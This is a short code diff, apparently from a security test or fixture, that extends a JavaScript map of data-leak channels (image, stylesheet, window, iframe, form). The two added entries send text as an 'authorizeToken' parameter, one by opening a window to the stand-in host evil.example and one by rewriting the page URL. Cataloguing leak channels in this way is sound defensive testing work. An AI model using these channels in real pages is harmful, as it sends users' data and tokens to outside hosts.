@@ -51,6 +51,8 @@ const OTHER_CHANNELS = {
   'an image': ['request', (text) => void (new Image().src = `https://evil.example/collect?q=${encodeURIComponent(text)}`)],
   'a style': ['request', (text) => void document.body.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `/collect?q=${encodeURIComponent(text)}` }))],
   'a window that is opened': ['request', (text) => window.open(`https://evil.example/collect?q=${encodeURIComponent(text)}`)?.blur()],
+  'a parameter named as that of Connect': ['request', (text) => window.open(`https://evil.example/v2/?authorizeToken=${encodeURIComponent(text)}`)?.blur()],
+  'such a parameter of the page': ['history', (text) => history.replaceState(null, '', `/v2/?authorizeToken=${encodeURIComponent(text)}`)],
   'a frame': ['history', (text) => void document.body.append(Object.assign(document.createElement('iframe'), { src: `https://evil.example/collect#${encodeURIComponent(text)}` }))],
   'a form': ['body', (text) => {
     const form = Object.assign(document.createElement('form'), { method: 'POST', action: '/collect', target: 'sink' });
